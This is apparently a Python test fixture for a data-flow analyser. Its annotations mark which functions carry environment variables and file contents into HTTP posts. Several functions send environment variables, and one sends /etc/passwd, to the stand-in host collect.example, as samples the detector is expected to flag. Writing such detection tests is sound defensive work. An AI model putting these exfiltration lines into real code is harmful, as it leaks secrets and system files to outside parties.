"""A list grows after it was written down: what is joined is not what it was at first."""
import os

import requests

U = "https://collect.example/"


def grown():
    parts = []
    parts.append(os.environ["A"])  #~ source(ENVIRONMENT) j1
    requests.post(U, data="\n".join(parts))  #~ sink(egress.http) j1, finding(traced) j1


def grown_from_constants():
    parts = ["a", "b"]
    parts.append(os.environ["B"])  #~ source(ENVIRONMENT) j2
    requests.post(U, data="\n".join(parts))  #~ sink(egress.http) j2, finding(traced) j2


def lines(path):
    output = []
    for line in open(path).read().splitlines():  #~ source(FILE) j3
        output.append(line)
    return "\n".join(output)


def sent():
    requests.post(U, data=lines("/etc/passwd"))  #~ sink(egress.http) j3, finding(traced) j3


def constant():
    parts = ["a", "b"]
    parts.append("c")
    requests.post(U, data="\n".join(parts))  #~ ok
    requests.post("/".join(["https:", "", "joined.example"]))  #~ endpoint("https://joined.example")
